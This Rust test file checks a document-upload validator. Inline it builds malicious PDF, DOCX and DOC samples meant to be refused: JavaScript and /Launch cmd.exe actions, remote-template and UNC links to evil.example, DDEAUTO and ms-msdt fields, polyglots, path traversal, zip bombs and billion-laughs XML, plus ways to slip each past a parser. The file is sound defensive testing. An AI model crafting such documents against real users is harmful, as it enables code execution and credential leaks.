//! Good and bad files, made here, and the verdict on each. Line numbers refer to the security requirements.

use super::probe::probe;
use super::rules::{FileKind, FileRefusal};
use flate2::Compression;
use flate2::write::ZlibEncoder;
use std::io::{Cursor, Write};
use zip::write::SimpleFileOptions;

pub(super) const TYPES: &str = "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
    <Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
pub(super) const DOCUMENT: &str = "<?xml version=\"1.0\"?><w:document><w:body><w:p/></w:body></w:document>";

fn pdf(objects: &[&str]) -> Vec<u8> {
    let mut text = String::from("%PDF-1.7\n");
    let mut offsets = vec![];
    for (n, object) in objects.iter().enumerate() {
        offsets.push(text.len());
        text += &format!("{} 0 obj\n{object}\nendobj\n", n + 1);
    }
    let start = text.len();
    text += &format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1);
    for offset in offsets {
        text += &format!("{offset:010} 00000 n \n");
    }
    text += &format!("trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n", objects.len() + 1);
    text.into_bytes()
}

fn good_pdf() -> Vec<u8> {
    pdf(&["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"])
}

/// A PDF with objects in a compressed stream.
fn packed_pdf(inside: &[u8], filter: &str) -> Vec<u8> {
    let mut packer = ZlibEncoder::new(vec![], Compression::best());
    packer.write_all(inside).unwrap();
    let packed = packer.finish().unwrap();
    let mut bytes = b"%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 ".to_vec();
    bytes.extend(format!("/Filter {filter} /Length {} >>\nstream\n", packed.len()).bytes());
    bytes.extend(packed);
    bytes.extend(b"\nendstream\nendobj\nstartxref\n9\n%%EOF");
    bytes
}

pub(super) fn zip(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(Cursor::new(vec![]));
    for (name, body) in parts {
        let options = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
        writer.start_file(*name, options).unwrap();
        writer.write_all(body).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

pub(super) fn docx(more: &[(&str, &[u8])]) -> Vec<u8> {
    let mut parts =
        vec![("[Content_Types].xml", TYPES.as_bytes()), ("word/document.xml", DOCUMENT.as_bytes())];
    parts.extend(more);
    zip(&parts)
}

pub(super) fn doc(streams: &[(&str, &[u8])]) -> Vec<u8> {
    let mut file = cfb::CompoundFile::create(Cursor::new(vec![])).unwrap();
    for (path, body) in streams {
        if let Some((storage, _)) = path.rsplit_once('/').filter(|(storage, _)| !storage.is_empty()) {
            file.create_storage_all(storage).unwrap();
        }
        file.create_stream(path).unwrap().write_all(body).unwrap();
    }
    file.flush().unwrap();
    file.into_inner().into_inner()
}

/// The head of a Word stream; bit 8 of its flags means “encrypted”.
pub(super) fn word_stream(flags: u16) -> Vec<u8> {
    let mut stream = vec![0; 64];
    stream[..2].copy_from_slice(&[0xec, 0xa5]);
    stream[10..12].copy_from_slice(&flags.to_le_bytes());
    stream
}

fn with_flag(mut archive: Vec<u8>, flag: u8) -> Vec<u8> {
    for (mark, offset) in [(b"PK\x03\x04", 6), (b"PK\x01\x02", 8)] {
        let mut from = 0;
        while let Some(at) = super::probe::find(&archive[from..], mark).map(|at| at + from) {
            archive[at + offset] |= flag;
            from = at + 4;
        }
    }
    archive
}

/// Replaces the first match in some bytes.
pub(super) fn with(bytes: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
    let at = super::probe::find(bytes, from).unwrap();
    [&bytes[..at], to, &bytes[at + from.len()..]].concat()
}

fn joined(parts: &[&[u8]]) -> Vec<u8> {
    parts.concat()
}

#[track_caller]
pub(super) fn is(name: &str, bytes: &[u8], verdict: Result<FileKind, FileRefusal>) {
    assert_eq!(probe(name, bytes).map(|checked| checked.kind), verdict, "{name}, {} bytes", bytes.len());
}

#[test]
fn g46_files_that_are_what_they_say_are_taken() {
    is("handbook.pdf", &good_pdf(), Ok(FileKind::Pdf));
    is("HANDBOOK.PDF", &good_pdf(), Ok(FileKind::Pdf));
    is(
        "packed.pdf",
        &packed_pdf(b"2 0 << /Type /Catalog /Title (Launch day) >>", "/FlateDecode"),
        Ok(FileKind::Pdf),
    );
    is("letter.docx", &docx(&[]), Ok(FileKind::Docx));
    let link = b"<Relationships><Relationship Id=\"a\" Type=\"http://x/relationships/hyperlink\" Target=\"https://example.com\" TargetMode=\"External\"/></Relationships>";
    is("linked.docx", &docx(&[("word/_rels/document.xml.rels", link)]), Ok(FileKind::Docx));
    is("letter.doc", &doc(&[("/WordDocument", &word_stream(0))]), Ok(FileKind::Doc));
}

/// Made by the programs they're named after, each with a link to an address that ends in `/JavaScript`.
const MADE_ELSEWHERE: &[(&str, &[u8])] = &[
    ("cairo.pdf", include_bytes!("corpus/cairo.pdf")),
    ("chromium.pdf", include_bytes!("corpus/chromium.pdf")),
    ("ghostscript.pdf", include_bytes!("corpus/ghostscript.pdf")),
    ("libreoffice.pdf", include_bytes!("corpus/libreoffice.pdf")),
    ("qpdf-linear.pdf", include_bytes!("corpus/qpdf-linear.pdf")),
    ("qpdf-packed.pdf", include_bytes!("corpus/qpdf-packed.pdf")),
    ("qpdf-plain-packed.pdf", include_bytes!("corpus/qpdf-plain-packed.pdf")),
    ("reportlab.pdf", include_bytes!("corpus/reportlab.pdf")),
];

#[test]
fn g46_what_people_write_and_link_to_is_no_reason_to_refuse_a_pdf() {
    for (name, bytes) in MADE_ELSEWHERE {
        is(name, bytes, Ok(FileKind::Pdf));
    }
    let link =
        "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.com/docs/JavaScript) >> >>";
    is("link.pdf", &pdf(&[link, "(/Launch \\( /XFA)", "<2F58464120>"]), Ok(FileKind::Pdf));
    is("packed.pdf", &packed_pdf(format!("2 0 {link}").as_bytes(), "/FlateDecode"), Ok(FileKind::Pdf));
    is("comment.pdf", &pdf(&["<< % /Encrypt (\n >>", "null"]), Ok(FileKind::Pdf));
    is(
        "text.pdf",
        &pdf(&["<< /Length 40 >>\nstream\nBT (see /Launch) Tj /XFA BMC EMC ET obj\nendstream"]),
        Ok(FileKind::Pdf),
    );
    is("names.pdf", &pdf(&["<< /Font << /F1 2 0 R /JS 3 0 R /EF 4 0 R >> /S /P >>"]), Ok(FileKind::Pdf));
}

#[test]
fn g46_a_file_of_10_mb_less_one_byte_is_taken_and_one_byte_more_is_not() {
    let mut largest = good_pdf();
    let fill = 10_485_759 - largest.len();
    largest.extend(std::iter::repeat_n(b'\n', fill));
    is("largest.pdf", &largest, Ok(FileKind::Pdf));
    largest.push(b'\n');
    is("too-large.pdf", &largest, Err(FileRefusal::TooLarge));
    is("empty.pdf", b"", Err(FileRefusal::Empty));
}

#[test]
fn g46_name_first_bytes_and_structure_must_agree() {
    is("letter.docx", &good_pdf(), Err(FileRefusal::NotWhatItSays));
    is("letter.doc", &docx(&[]), Err(FileRefusal::NotWhatItSays));
    is("handbook.pdf", b"MZ\x90\x00 a program", Err(FileRefusal::NotWhatItSays));
    is("page.pdf", b"<html><script>alert(1)</script>", Err(FileRefusal::NotWhatItSays));
    is("program.exe", &good_pdf(), Err(FileRefusal::TypeNotAllowed));
    is(
        "sheet.docx",
        &zip(&[("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"<x/>")]),
        Err(FileRefusal::NotWhatItSays),
    );
    is("archive.docx", &zip(&[("word/document.xml", DOCUMENT.as_bytes())]), Err(FileRefusal::NotWhatItSays));
    is("sheet.doc", &doc(&[("/Workbook", b"0123456789abcdef")]), Err(FileRefusal::NotWhatItSays));
    is("other.doc", &doc(&[("/WordDocument", &[0; 64])]), Err(FileRefusal::NotWhatItSays));
    is("cut.pdf", &good_pdf()[..60], Err(FileRefusal::Broken));
    is("cut.docx", &docx(&[])[..60], Err(FileRefusal::Broken));
    is("cut.doc", &doc(&[("/WordDocument", &word_stream(0))])[..600], Err(FileRefusal::Broken));
}

#[test]
fn g46_polyglots_are_refused() {
    let archive = zip(&[("evil.js", b"alert(1)")]);
    is("tail.pdf", &joined(&[&good_pdf(), &archive]), Err(FileRefusal::TwoThings));
    is("tail.pdf", &joined(&[&good_pdf(), b"MZ a program"]), Err(FileRefusal::TwoThings));
    // The archive comes before the end of the PDF, which becomes the archive's comment.
    let mut hidden = joined(&[&good_pdf(), &archive]);
    let end = b"\n%%EOF";
    let length = hidden.len();
    hidden[length - 2..].copy_from_slice(&(end.len() as u16).to_le_bytes());
    hidden.extend(end);
    is("comment.pdf", &hidden, Err(FileRefusal::TwoThings));
    is(
        "page.pdf",
        &joined(&[b"%PDF-1.4\n<html><script>alert(1)</script>\n", &good_pdf()]),
        Err(FileRefusal::TwoThings),
    );
    is("head.docx", &joined(&[b"PK\x03\x04 not an archive ", &docx(&[])]), Err(FileRefusal::TwoThings));
    is(
        "tail.doc",
        &joined(&[&doc(&[("/WordDocument", &word_stream(0))]), &archive]),
        Err(FileRefusal::TwoThings),
    );
    let mut twice = docx(&[("word/documenu.xml", DOCUMENT.as_bytes())]);
    while let Some(at) = super::probe::find(&twice, b"word/documenu.xml") {
        twice[at + 12] = b't';
    }
    is("twice.docx", &twice, Err(FileRefusal::TwoThings));
    is("way-out.docx", &docx(&[("../../evil.xml", b"<x/>")]), Err(FileRefusal::TwoThings));
}

#[test]
fn g46_macros_scripts_and_embedded_programs_are_refused() {
    is(
        "script.pdf",
        &pdf(&["<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"]),
        Err(FileRefusal::Macros),
    );
    is("spelled.pdf", &pdf(&["<< /S /J#61vaScrip#74 /JS (x) >>"]), Err(FileRefusal::Macros));
    is("launch.pdf", &pdf(&["<< /S /Launch /F (cmd.exe) >>"]), Err(FileRefusal::Macros));
    is("inside.pdf", &pdf(&["<< /Names << /EmbeddedFiles 4 0 R >> >>"]), Err(FileRefusal::Macros));
    is(
        "packed.pdf",
        &packed_pdf(b"2 0 << /S /JavaScript /JS (x) >>", "/FlateDecode"),
        Err(FileRefusal::Macros),
    );
    is("twice.pdf", &packed_pdf(b"2 0 << >>", "[/ASCIIHexDecode /FlateDecode]"), Err(FileRefusal::Broken));
    for action in ["GoToE", "SubmitForm", "ImportData", "Launch"] {
        is("action.pdf", &pdf(&[&format!("<< /S /{action} /F (a.pdf) >>")]), Err(FileRefusal::Macros));
    }
    is("other.pdf", &pdf(&["<< /S /GoToR /F (chapters/2.pdf) /D [0 /Fit] >>"]), Ok(FileKind::Pdf));
    for away in [
        r"<< /S /GoToR /F (\\\\evil\\share\\a.pdf) /D [0 /Fit] >>",
        r"<< /S /GoToR /F (\134\134evil\134share) >>",
        "<< /S /GoToR /F << /Type /Filespec /UF <FEFF005C005C0065> >> >>",
        r"(\\\\evil\\share)",
        "<< /S /GoToR /F (/evil.example/share/a.pdf) >>",
        "<< /S /GoToR /F << /FS /URL /F (smb://evil.example/a.pdf) >> >>",
        "<< /S /Thread /F (docs\\\\a.pdf) /D 0 >>",
        "<< /S /URI /URI (file://evil.example/a) >>",
        "<< /S /URI /URI <66696C653A> >>",
        "<< /URI << /Base (file:///C:/) >> >>",
    ] {
        is("away.pdf", &pdf(&[away]), Err(FileRefusal::Macros));
        is(
            "packed.pdf",
            &packed_pdf(format!("2 0 {away}").as_bytes(), "/FlateDecode"),
            Err(FileRefusal::Macros),
        );
    }
    // Its name is another object, before it, after it, or in a stream.
    let (by_number, name) = ("<< /S /GoToR /F 2 0 R /D [0 /Fit] >>", "(/evil.example/share/a.pdf)");
    is("far.pdf", &pdf(&[by_number, name]), Err(FileRefusal::Macros));
    is("far.pdf", &pdf(&[name, by_number]), Err(FileRefusal::Macros));
    is("far.pdf", &pdf(&[by_number, "(chapters/2.pdf)"]), Ok(FileKind::Pdf));
    is("title.pdf", &pdf(&["<< /Title 2 0 R /F 4 >>", "(Re: \\\\ and /)"]), Ok(FileKind::Pdf));
    let packed = packed_pdf(format!("2 0 {name}").as_bytes(), "/FlateDecode");
    is(
        "far.pdf",
        &with(&packed, b"startxref", format!("9 0 obj {by_number} endobj\nstartxref").as_bytes()),
        Err(FileRefusal::Macros),
    );
    let unclear = packed_pdf(b"2 1 (   /F (/evil/share))", "/FlateDecode");
    is("unclear.pdf", &unclear, Err(FileRefusal::Macros));
    is("form.pdf", &pdf(&["<< /AcroForm << /XFA 5 0 R >> >>"]), Err(FileRefusal::Macros));
    let packed = packed_pdf(b"2 0 << /S /JavaScript /JS (x) >>", "/FlateDecode");
    is("spelled.pdf", &with(&packed, b"ObjStm", b"Obj#53tm"), Err(FileRefusal::Macros));
    is("decoy.pdf", &with(&packed, b"/N 1", b"/N 1 (stream)"), Err(FileRefusal::Macros));
    is("macro.docx", &docx(&[("word/vbaProject.bin", b"x")]), Err(FileRefusal::Macros));
    let enabled = TYPES.replace(
        "document.main+xml",
        "document.main+xml\"/><Default ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml",
    );
    is(
        "macro.docx",
        &zip(&[("[Content_Types].xml", enabled.as_bytes()), ("word/document.xml", DOCUMENT.as_bytes())]),
        Err(FileRefusal::Macros),
    );
    is("object.docx", &docx(&[("word/embeddings/oleObject1.bin", b"x")]), Err(FileRefusal::Macros));
    let template = b"<Relationships><Relationship Id=\"a\" Type=\"http://x/relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>";
    let leads = |relations: &[u8], verdict| {
        is("template.docx", &docx(&[("word/_rels/settings.xml.rels", relations)]), Err(verdict));
        let padded = [&b" ".repeat(100), relations].concat();
        is("padded.docx", &docx(&[("word/_rels/settings.xml.rels", &padded)]), Err(verdict));
    };
    leads(template, FileRefusal::Macros);
    // However the XML is written.
    leads(&with(template, b"Relationship ", b"Relationship\n"), FileRefusal::Macros);
    leads(&with(template, b"<Relationship ", b"<r:Relationship "), FileRefusal::Macros);
    leads(&with(template, b"attachedTemplate", b"attached&#84;emplat&#x65;"), FileRefusal::Macros);
    leads(&with(template, b"Id=\"a\"", b"Id=\"&#60;\""), FileRefusal::Macros);
    leads(&with(template, b"TargetMode=\"External\"", b"TargetMode = 'External'"), FileRefusal::Macros);
    leads(&template.iter().flat_map(|byte| [*byte, 0]).collect::<Vec<u8>>(), FileRefusal::Macros);
    let padded = with(template, b"<Relationship ", &[&b" ".repeat(5 << 20)[..], b"<Relationship "].concat());
    leads(&padded, FileRefusal::UnpacksTooLarge);
    leads(&with(template, b"attachedTemplate", b"aFChunk"), FileRefusal::TwoThings);
    for kind in ["image", "oleObject", "mailMergeSource", "frame", "subDocument", "video", "unheardOf"] {
        leads(&with(template, b"attachedTemplate", kind.as_bytes()), FileRefusal::Macros);
    }
    // Objects, packages and controls, wherever their parts are.
    let inside = with(template, b"TargetMode=\"External\"", b"");
    for kind in ["oleObject", "package", "control", "activeXControlBinary", "wordVbaData"] {
        leads(&with(&inside, b"attachedTemplate", kind.as_bytes()), FileRefusal::Macros);
    }
    // A picture on another machine, without saying that it's outside.
    let picture = with(&inside, b"attachedTemplate", b"image");
    for target in ["\\\\evil\\s\\a.png", "file://evil/a.png", "%5C%5Cevil/a.png", "//evil/a.png"] {
        leads(&with(&picture, b"https://evil.example/t.dotm", target.as_bytes()), FileRefusal::Macros);
    }
    let links = |target: &str, verdict| {
        let link = with(template, b"attachedTemplate", b"hyperlink");
        let link = with(&link, b"https://evil.example/t.dotm", target.as_bytes());
        is("link.docx", &docx(&[("word/_rels/document.xml.rels", &link)]), verdict);
    };
    for target in [
        "https://example.com/control/package",
        "mailto:a@b.example",
        "#here",
        "a/b.docx",
        "file:///C:/a.docx",
    ] {
        links(target, Ok(FileKind::Docx));
    }
    for target in [
        "javascript:alert(1)",
        "java&#10;script:x",
        "file://evil/share",
        "\\\\evil\\share",
        "ms-msdt:x",
        "//evil/x",
        "%5c%5cevil%5cshare",
        "%255C%255Cevil",
        "file:///%5c%5cevil%5cshare",
        "file:%2f%2fevil/share",
    ] {
        links(target, Err(FileRefusal::Macros));
    }
    for kind in [
        "application/vnd.openxmlformats-officedocument.oleObject",
        "application/vnd.ms-office.activeX+xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "application/x-msdownload",
    ] {
        let mark = "<Override ";
        let types =
            TYPES.replacen(mark, &format!("<Default Extension=\"png\" ContentType=\"{kind}\"/>{mark}"), 1);
        let parts = [("[Content_Types].xml", types.as_bytes()), ("word/document.xml", DOCUMENT.as_bytes())];
        is("typed.docx", &zip(&parts), Err(FileRefusal::Macros));
    }
    let mut program = [&b"MZ"[..], &[0; 0x3a], &0x80_u32.to_le_bytes(), &[0; 0x40]].concat();
    program.extend(b"PE\0\0");
    for body in
        [&program[..], &doc(&[("/WordDocument", b"x")]), &docx(&[]), b"\x7fELF", b"%PDF-1.4", b"#!/bin/sh"]
    {
        is("moved.docx", &docx(&[("word/media/image1.png", body)]), Err(FileRefusal::Macros));
    }
    is(
        "picture.docx",
        &docx(&[
            ("word/media/image1.png", b"\x89PNG\r\n\x1a\n"),
            ("word/fonts/a.odttf", b"MZ but no program"),
        ]),
        Ok(FileKind::Docx),
    );
    let word = word_stream(0);
    is("macro.doc", &doc(&[("/WordDocument", &word), ("/Macros/VBA/dir", b"x")]), Err(FileRefusal::Macros));
    is(
        "package.doc",
        &doc(&[("/WordDocument", &word), ("/ObjectPool/1/\u{1}Ole10Native", b"x")]),
        Err(FileRefusal::Macros),
    );
}

#[test]
fn g46_fields_that_fetch_or_start_something_are_refused_however_they_are_written() {
    let text = |body: &str| {
        let document =
            format!("<?xml version=\"1.0\"?><w:document><w:body><w:p>{body}</w:p></w:body></w:document>");
        zip(&[("[Content_Types].xml", TYPES.as_bytes()), ("word/document.xml", document.as_bytes())])
    };
    let (begin, separate, end) = (
        "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>",
        "<w:fldChar w:fldCharType='separate'/>",
        "<w:fldChar w:fldCharType=\"end\"/>",
    );
    let code = |code: &str| format!("<w:instrText xml:space=\"preserve\">{code}</w:instrText>");
    for field in [
        "DDEAUTO c:\\\\cmd.exe",
        " dde x",
        "INCLUDEPICTURE \"https://evil.example/a.png\"",
        "INCLUDETEXT x",
        "LINK Excel.Sheet.8",
        "&#68;DE x",
    ] {
        is(
            "simple.docx",
            &text(&format!("<w:fldSimple w:instr=\"{}\"/>", field.replace('"', "&#34;"))),
            Err(FileRefusal::Macros),
        );
        is(
            "field.docx",
            &text(&format!("{begin}{}{separate}<w:t>x</w:t>{end}", code(field))),
            Err(FileRefusal::Macros),
        );
        is("unended.docx", &text(&format!("{begin}{}", code(field))), Err(FileRefusal::Macros));
        is(
            "header.docx",
            &docx(&[("word/header1.dat", format!("<w:hdr>{begin}{}{end}</w:hdr>", code(field)).as_bytes())]),
            Err(FileRefusal::Macros),
        );
    }
    is(
        "split.docx",
        &text(&format!("{begin}{}<w:r/>{}{end}", code("D"), code("DE x"))),
        Err(FileRefusal::Macros),
    );
    is(
        "within.docx",
        &text(&format!("{begin}{}{begin}{}{end}{}{end}", code("D"), code("QUOTE 68"), code("E x"))),
        Err(FileRefusal::Macros),
    );
    is("hidden.docx", &text(&format!("{begin}{}{end}", code("D<!-- -->DE x"))), Err(FileRefusal::Macros));
    is(
        "object.docx",
        &text("<w:object><o:OLEObject Type=\"Embed\" ProgID=\"Package\"/></w:object>"),
        Err(FileRefusal::Macros),
    );
    is("picture.docx", &text("<v:imagedata src=\"https://evil.example/a.png\"/>"), Err(FileRefusal::Macros));
    let honest = format!(
        "{begin}{}{separate}<w:t>DDE and LINK</w:t>{end}{begin}{}{begin}{}{end}{end}<w:fldSimple w:instr=' PAGE '/>",
        code(" HYPERLINK \"https://example.com/DDE\""),
        code("="),
        code("PAGE")
    );
    is("honest.docx", &text(&honest), Ok(FileKind::Docx));
    let old = |field: &str| {
        doc(&[("/WordDocument", &[&word_stream(0)[..], b"\x13", field.as_bytes(), b"\x14"].concat())])
    };
    is("field.doc", &old(" DDEAUTO c:\\\\cmd.exe"), Err(FileRefusal::Macros));
    is("field.doc", &old("\0D\0D\0E\0 \0x\0"), Err(FileRefusal::Macros));
    is("page.doc", &old(" PAGE "), Ok(FileKind::Doc));
    is(
        "object.doc",
        &doc(&[("/WordDocument", &word_stream(0)), ("/ObjectPool/_1/\u{1}Ole", b"x")]),
        Err(FileRefusal::Macros),
    );
}

/// Some reader sees each of these.
#[test]
fn g46_nothing_around_an_object_hides_what_it_does() {
    const SCRIPT: &str = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
    let hidden = |name, bytes: &[u8]| is(name, bytes, Err(FileRefusal::Macros));
    let packed = packed_pdf(format!("2 0 {SCRIPT}").as_bytes(), "/FlateDecode");
    for decoy in ["(endobj)", "(endstream)", "% endobj\n", "/X (\\)endobj)", "/X <</Y [>>] /Z (a)>>"] {
        hidden("decoy.pdf", &with(&packed, b"/N 1", format!("{decoy} /N 1").as_bytes()));
    }
    hidden("untyped.pdf", &with(&packed, b"/Type /ObjStm", b""));
    hidden("commented.pdf", &with(&packed, b">>\nstream", b">>% endobj\nstream"));
    hidden(
        "in-a-stream.pdf",
        &pdf(&[&format!("<< /Length 99 >>\nstream\n9 0 obj {SCRIPT} endobj\nendstream")]),
    );
    hidden("in-a-text.pdf", &pdf(&[&format!("(9 0 obj {SCRIPT} endobj)")]));
    hidden("in-a-comment.pdf", &pdf(&[&format!("null % 9 0 obj {SCRIPT}\n")]));
    hidden("behind-an-open-text.pdf", &pdf(&["( never closed", SCRIPT]));
    hidden("wrong-brackets.pdf", &pdf(&["<< /A [ >> ] /S /JavaScript /JS (x) >>"]));
    hidden("cut-name.pdf", &pdf(&["<< /S /JavaScript#00Not >>"]));
    hidden("other-action.pdf", &pdf(&["<< /S /Rendition /OP 0 /J#53 (x) >>"]));
    hidden("scene.pdf", &pdf(&["<< /Type /3D /OnInstantiate 4 0 R >>"]));
    hidden("attached.pdf", &pdf(&["<< /FS << /F (a.exe) /EF << /F 4 0 R >> >> /Subtype /FileAttachment >>"]));
    // Its offset points into a text, where a reader that goes from one object to the next sees none.
    let inside = packed_pdf(format!("2 1 (   {SCRIPT})").as_bytes(), "/FlateDecode");
    hidden("offset.pdf", &inside);
    hidden("counted-elsewhere.pdf", &with(&inside, b"/N 1", b"/N 4 0 R"));
    let plain = format!("<< /Type /ObjStm /N 1 /First 4 /Length 3 >>\nstream\n2 0 {SCRIPT}\nendstream");
    hidden("plain.pdf", &pdf(&[&plain]));
    // After damage, where a more lenient reader continues.
    let at = super::probe::find(&packed, b"\nendstream").unwrap();
    let mut damaged = packed_pdf(&b"2 0 << /Type /Catalog >> ".repeat(50), "/FlateDecode");
    let at_damaged = super::probe::find(&damaged, b"\nendstream").unwrap();
    damaged.splice(at_damaged - 6..at_damaged, packed[at - 30..at].iter().copied());
    is("damaged.pdf", &damaged, Err(FileRefusal::Broken));
}

#[test]
fn g46_encrypted_files_are_refused() {
    is("locked.pdf", &pdf(&["<< /Filter /Standard >>", "<< /Encrypt 1 0 R >>"]), Err(FileRefusal::Encrypted));
    is("locked.docx", &with_flag(docx(&[]), 1), Err(FileRefusal::Encrypted));
    is("locked.doc", &doc(&[("/WordDocument", &word_stream(0x0100))]), Err(FileRefusal::Encrypted));
    is(
        "locked.doc",
        &doc(&[("/EncryptionInfo", b"x"), ("/EncryptedPackage", b"x")]),
        Err(FileRefusal::Encrypted),
    );
}

#[test]
fn g46_bombs_are_refused() {
    let zeros = vec![0; 101 * 1024 * 1024];
    is("bomb.docx", &docx(&[("word/media/image1.png", &zeros)]), Err(FileRefusal::UnpacksTooLarge));
    is("bomb.pdf", &packed_pdf(&zeros, "/FlateDecode"), Err(FileRefusal::UnpacksTooLarge));
    let laughs = "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\">]><w:document>&b;</w:document>";
    let bytes = zip(&[("[Content_Types].xml", TYPES.as_bytes()), ("word/document.xml", laughs.as_bytes())]);
    is("laughs.docx", &bytes, Err(FileRefusal::UnpacksTooLarge));
    is("laughs.docx", &docx(&[("word/styles.xml", laughs.as_bytes())]), Err(FileRefusal::UnpacksTooLarge));
}

#[test]
fn g46_a_file_that_says_the_same_a_million_times_is_looked_through_once() {
    let words = b"/ObjStm ".repeat(1_000_000);
    let end = b"stream\nendstream\nendobj\nstartxref\n9\n%%EOF";
    is("words.pdf", &joined(&[b"%PDF-1.7\n1 0 obj\n", &words, end]), Ok(FileKind::Pdf));
    for (word, verdict) in [
        (&b"1 0 obj ["[..], Err(FileRefusal::Broken)),
        (b"1 0 obj (", Err(FileRefusal::Broken)),
        (b"1 0 obj <", Err(FileRefusal::Broken)),
        (b"obj ", Ok(FileKind::Pdf)),
        (b"trailer %", Err(FileRefusal::Broken)),
    ] {
        is("inside-each-other.pdf", &joined(&[b"%PDF-1.7\n", &word.repeat(1_000_000), b"\n", end]), verdict);
    }
    let stream = b"1 0 obj << /N 1 /First 4 >> stream\n";
    is("streams.pdf", &joined(&[b"%PDF-1.7\n", &stream.repeat(200_000), end]), Err(FileRefusal::Broken));
    let far = format!("{}{}", "1 200000 ".repeat(10_000), " ".repeat(1_000_000));
    is(
        "offsets.pdf",
        &with(&packed_pdf(far.as_bytes(), "/FlateDecode"), b"/N 1", b"/N 10000"),
        Ok(FileKind::Pdf),
    );
}

mod whatever_the_bytes {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        /// A probe is the first thing a stranger's bytes meet: it answers, and never ends the process.
        #[test]
        fn a_probe_answers(which in 0usize..3, at in 0usize..2000, junk in proptest::collection::vec(any::<u8>(), 1..40)) {
            let (name, mut bytes) = match which {
                0 => ("a.pdf", good_pdf()),
                1 => ("a.docx", docx(&[])),
                _ => ("a.doc", doc(&[("/WordDocument", &word_stream(0))])),
            };
            let at = at % bytes.len();
            let end = bytes.len().min(at + junk.len());
            bytes[at..end].copy_from_slice(&junk[..end - at]);
            let _ = probe(name, &bytes);
            let _ = probe(name, &junk);
        }
    }
}
